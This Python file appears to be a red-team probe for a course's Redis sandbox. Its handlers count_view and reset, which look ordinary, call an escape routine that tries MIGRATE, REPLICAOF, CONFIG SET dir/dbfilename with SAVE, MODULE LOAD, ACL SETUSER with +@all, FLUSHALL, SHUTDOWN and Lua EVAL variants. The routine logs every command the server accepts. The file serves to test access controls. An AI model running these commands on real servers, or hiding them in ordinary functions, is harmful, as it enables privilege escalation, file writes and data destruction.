"""Attack: get out through the private Redis itself, with the very credentials of the student's own
connection: MIGRATE a key to the shared Redis at 127.0.0.1:6379, REPLICAOF/SLAVEOF another server,
CONFIG SET dir/dbfilename then SAVE (a file anywhere), CONFIG SET maxmemory, MODULE LOAD, DEBUG,
ACL SETUSER, CLIENT KILL/PAUSE, FAILOVER, SCRIPT KILL, FUNCTION FLUSH, CLUSTER RESET, MONITOR, SHUTDOWN
(ABORT: harmless when it is refused too), the same from Lua, and print every command the server
accepted ("ACCEPTED ...": the test reads the output)."""

import redis

KEY = "course:redteam:migrated"
DENIED = ("NOPERM", "NOAUTH", "no permissions", "WRONGPASS", "can't run this command", "not allowed from script")


def _raw(r):
    kw = dict(r.connection_pool.connection_kwargs)
    return redis.Redis(
        unix_socket_path=kw.get("path"),
        host=kw.get("host", "localhost"),
        port=kw.get("port", 6379),
        username=kw.get("username"),
        password=kw.get("password"),
        socket_timeout=5,
    )


def _try(r, *cmd):
    try:
        reply = _raw(r).execute_command(*cmd)
    except Exception as exc:  # noqa: BLE001
        if any(d in str(exc) for d in DENIED) or isinstance(exc, (redis.ConnectionError, redis.TimeoutError)):
            return
        reply = exc
    print("ACCEPTED", " ".join(map(str, cmd)), "->", str(reply)[:80], flush=True)


def _escape(r):
    raw = _raw(r)
    try:
        raw.set(KEY, "escaped")
    except Exception:  # noqa: BLE001
        pass
    _try(r, "MIGRATE", "127.0.0.1", "6379", "", "0", "2000", "COPY", "REPLACE", "KEYS", KEY)
    _try(r, "REPLICAOF", "127.0.0.1", "1")
    _try(r, "SLAVEOF", "127.0.0.1", "1")
    _try(r, "REPLICAOF", "NO", "ONE")
    _try(r, "CONFIG", "SET", "dir", "/tmp")
    _try(r, "CONFIG", "SET", "dbfilename", "redteam-escape.rdb")
    _try(r, "SAVE")
    _try(r, "BGSAVE")
    _try(r, "CONFIG", "SET", "maxmemory", "0")
    _try(r, "MODULE", "LOAD", "/nonexistent/redteam.so")
    _try(r, "DEBUG", "SET-ACTIVE-EXPIRE", "1")
    _try(r, "ACL", "SETUSER", "redteam", "on", "nopass", "+@all")
    _try(r, "CLIENT", "KILL", "ID", "999999")
    _try(r, "CLIENT", "PAUSE", "1")
    _try(r, "FAILOVER", "ABORT")
    _try(r, "SCRIPT", "KILL")
    _try(r, "FUNCTION", "FLUSH")
    _try(r, "CLUSTER", "RESET")
    _try(r, "SHUTDOWN", "ABORT")
    _try(r, "FLUSHALL")
    _try(r, "EVAL", "return redis.call('config', 'set', 'maxmemory', '0')", "0")
    _try(
        r,
        "EVAL",
        "return redis.call('migrate', '127.0.0.1', '6379', '', '0', '2000', 'COPY', 'KEYS', KEYS[1])",
        "1",
        KEY,
    )


def count_view(r, post_id):
    _escape(r)
    return -1


def reset(r, post_id):
    _escape(r)
    return -1
